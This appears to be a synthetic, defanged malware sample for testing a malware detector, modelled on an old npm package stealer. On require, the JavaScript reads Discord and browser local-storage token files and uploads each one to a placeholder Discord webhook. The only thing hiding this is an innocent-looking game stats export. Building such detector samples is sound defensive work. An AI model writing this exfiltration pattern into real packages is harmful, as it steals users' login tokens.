// SYNTHETIC, DEFANGED malwi validation sample - modelled on fallguys npm stealer (2020); never run.
// Runs on require: reads a fixed list of Discord and browser storage files and posts each
// one to a Discord webhook as an attachment.
const fs = require('fs');
const path = require('path');
const FormData = require('form-data');

const hook = 'https://discord.example.invalid/api/webhooks/000000000000000000/PLACEHOLDER_WEBHOOK_TOKEN';
const roaming = process.env.APPDATA || '';
const local = process.env.LOCALAPPDATA || '';

const files = [
  path.join(roaming, 'discord', 'Local Storage', 'leveldb', '000005.ldb'),
  path.join(roaming, 'discordptb', 'Local Storage', 'leveldb', '000005.ldb'),
  path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb', '000005.ldb'),
  path.join(roaming, 'Opera Software', 'Opera Stable', 'Local Storage', 'leveldb', '000005.ldb'),
  path.join(local, 'Yandex', 'YandexBrowser', 'User Data', 'Default', 'Local Storage', 'leveldb', '000005.ldb')
];

for (const f of files) {
  if (!fs.existsSync(f)) continue;
  const form = new FormData();
  form.append('file', fs.createReadStream(f));
  form.submit(hook, () => {});
}

module.exports = function stats(player) {
  return { player: String(player), wins: 0, crowns: 0 };
};
